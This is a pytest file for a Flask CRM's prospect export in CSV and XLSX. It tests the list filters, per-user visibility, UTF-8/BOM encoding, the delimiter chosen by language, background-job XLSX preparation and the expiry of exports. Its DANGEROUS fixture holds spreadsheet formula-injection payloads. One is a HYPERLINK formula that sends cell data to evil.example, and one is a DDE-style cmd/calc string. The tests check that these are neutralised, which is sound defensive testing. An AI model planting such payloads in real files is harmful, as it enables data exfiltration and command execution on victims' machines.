"""Exporting the prospects list: the list's filters and the viewer's visibility, UTF-8 with a
BOM and the language's delimiter for CSV, XLSX prepared by the job — and in both, nothing a
visitor typed runs as a formula: the XLSX read back with openpyxl has no formula cell, the
CSV read back has the guard apostrophe, and the values people read are the ones stored."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from redis import Redis
from rq import Queue
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from crm_core.clock import now
from crm_core.db import transaction
from crm_core.models import Role, Status, User
from crm_core.prospects.services import create_prospect
from crm_core.settings import Settings
from crm_core.transfer.exporting import export_header
from crm_core.transfer.models import Export
from crm_core.transfer.writing import restore_neutralised
from tests.admin.conftest import UserFactory, csrf_token_from, sign_in
from worker import runtime
from worker.queues import TRANSFERS
from worker.workers import LeadWorker

DANGEROUS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "company": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "+40 722 123 456",
    "description": "-2+3\nsecond line",
    "city": "Iași",
}


@pytest.fixture
def settings(settings: Settings, tmp_path: Path) -> Settings:
    return replace(settings, upload_dir=str(tmp_path / "files"))


@pytest.fixture
def people(make_user: UserFactory) -> dict[str, User]:
    return {
        "admin": make_user(Role.ADMIN),
        "ana": make_user(Role.SALES, name="Ana"),
        "ion": make_user(Role.SALES),
    }


@pytest.fixture
def prospects(session_factory: sessionmaker[Session], people: dict[str, User]) -> dict[str, int]:
    with transaction(session_factory) as session:
        admin = session.get(User, people["admin"].id)
        qualified = session.scalar(select(Status.id).where(Status.name == "Qualified"))
        made = {
            "dangerous": create_prospect(session, admin, {**DANGEROUS, "owner_id": str(people["ana"].id)}),
            "plain": create_prospect(
                session,
                admin,
                {
                    "name": "Ștefan Țăranu",
                    "email": "s@t.ro",
                    "owner_id": str(people["ion"].id),
                    "status_id": str(qualified),
                },
            ),
        }
        return {key: value.id for key, value in made.items()}


def client_for(app: Flask, session_factory: sessionmaker[Session], user: User) -> FlaskClient:
    return sign_in(app.test_client(), session_factory, user)


def csv_rows(response) -> tuple[str, list[list[str]]]:  # type: ignore[no-untyped-def]
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, so Excel reads the letters"
    text = raw.decode("utf-8-sig")
    delimiter = ";" if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ","
    return delimiter, list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_csv_keeps_the_list_filters_the_language_and_no_formula(
    app: Flask, session_factory: sessionmaker[Session], people: dict[str, User], prospects: dict[str, int]
) -> None:
    admin = client_for(app, session_factory, people["admin"])
    page = admin.get("/admin/exports/prospects?q=stefan").get_data(as_text=True)
    assert "1 prospect matching the list" in page
    response = admin.get("/admin/exports/prospects.csv?q=stefan&lang=ro")
    assert response.status_code == 200
    assert re.match(
        r'attachment; filename="prospects-\d{4}-\d\d-\d\d-\d{4}\.csv"',
        response.headers["Content-Disposition"],
    )
    delimiter, rows = csv_rows(response)
    assert delimiter == ";"
    assert rows[0] == export_header("ro")
    assert len(rows) == 2 and rows[1][1] == "Ștefan Țăranu" and rows[1][13] == "Qualified"

    delimiter, rows = csv_rows(admin.get("/admin/exports/prospects.csv?lang=en"))
    assert delimiter == ","
    assert rows[0][:3] == ["ID", "Name", "Company"]
    exported = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    cells = exported[str(prospects["dangerous"])]
    # Formula-like text gets the guard apostrophe; plain text is untouched; the importer
    # (and restore_neutralised) takes the apostrophe off again.
    assert cells["Name"] == "'" + DANGEROUS["name"]
    assert cells["Company"] == "'" + DANGEROUS["company"]
    assert cells["Phone"] == "'" + DANGEROUS["phone"]
    assert cells["Description"] == "'" + DANGEROUS["description"]
    assert cells["City"] == "Iași"
    assert {key: restore_neutralised(cells[label]) for key, label in
            (("name", "Name"), ("company", "Company"), ("phone", "Phone"), ("description", "Description"))} == {
        key: DANGEROUS[key] for key in ("name", "company", "phone", "description")
    }  # fmt: skip
    assert cells["Owner"] == "Ana"


def test_sales_export_only_what_they_see(
    app: Flask, session_factory: sessionmaker[Session], people: dict[str, User], prospects: dict[str, int]
) -> None:
    ana = client_for(app, session_factory, people["ana"])
    _, rows = csv_rows(ana.get("/admin/exports/prospects.csv?lang=en"))
    assert [row[0] for row in rows[1:]] == [str(prospects["dangerous"])]
    # Asking for someone else's prospects by filter changes nothing.
    _, rows = csv_rows(ana.get(f"/admin/exports/prospects.csv?lang=en&owner={people['ion'].id}"))
    assert rows[1:] == []


@pytest.fixture
def run_worker(database_url: str, redis: Redis) -> Callable[[], int]:
    def run() -> int:
        runtime.configure(database_url)
        queue = Queue(TRANSFERS, connection=redis, serializer="json")
        LeadWorker([queue], connection=redis, serializer="json").work(
            burst=True, with_scheduler=False, logging_level="WARNING"
        )
        return queue.failed_job_registry.count

    return run


def test_xlsx_is_prepared_by_the_job_and_holds_no_formula(
    app: Flask,
    session_factory: sessionmaker[Session],
    people: dict[str, User],
    prospects: dict[str, int],
    run_worker: Callable[[], int],
) -> None:
    ana = client_for(app, session_factory, people["ana"])
    page = ana.get("/admin/exports/prospects").get_data(as_text=True)
    response = ana.post(
        "/admin/exports/prospects.xlsx", data={"csrf_token": csrf_token_from(page), "query": "", "lang": "fr"}
    )
    assert response.status_code == 302
    detail_url = response.headers["Location"]
    assert "Preparing the file" in ana.get(detail_url).get_data(as_text=True)
    assert run_worker() == 0
    detail = ana.get(detail_url).get_data(as_text=True)
    assert "1 prospect, ready" in detail
    download = re.search(r'href="(/admin/exports/\d+/download)"', detail)
    assert download
    file = ana.get(download[1])
    assert file.status_code == 200 and file.mimetype.endswith("spreadsheetml.sheet")
    body = file.get_data()
    file.close()  # a server closes the file it sent; the test client leaves that to us

    workbook = load_workbook(io.BytesIO(body))
    sheet = workbook.active
    assert sheet.title == "Prospects"
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no cell is a formula"
    header = [cell.value for cell in sheet[1]]
    assert header == export_header("fr")
    values = dict(zip(header, (cell.value for cell in sheet[2]), strict=True))
    assert values["Nom"] == DANGEROUS["name"]  # read exactly as stored, no apostrophe
    assert values["Société"] == DANGEROUS["company"]
    assert values["Téléphone"] == DANGEROUS["phone"]
    assert values["Description"] == DANGEROUS["description"]
    assert sheet.max_row == 2  # Ana's prospect only
    workbook.close()

    # Someone else cannot see or download it.
    ion = client_for(app, session_factory, people["ion"])
    assert ion.get(detail_url).status_code == 404
    assert ion.get(download[1]).status_code == 404


def test_an_expired_export_is_no_longer_offered(
    app: Flask, session_factory: sessionmaker[Session], people: dict[str, User], run_worker: Callable[[], int]
) -> None:
    admin = client_for(app, session_factory, people["admin"])
    page = admin.get("/admin/exports/prospects").get_data(as_text=True)
    detail_url = admin.post(
        "/admin/exports/prospects.xlsx", data={"csrf_token": csrf_token_from(page), "query": "", "lang": "en"}
    ).headers["Location"]
    run_worker()
    export_id = int(detail_url.rsplit("/", 1)[1])
    with transaction(session_factory) as session:
        session.get(Export, export_id).expires_at = now() - timedelta(minutes=1)
    response = admin.get(f"/admin/exports/{export_id}/download")
    assert response.status_code == 302
    assert "no longer available" in admin.get(response.headers["Location"]).get_data(as_text=True)
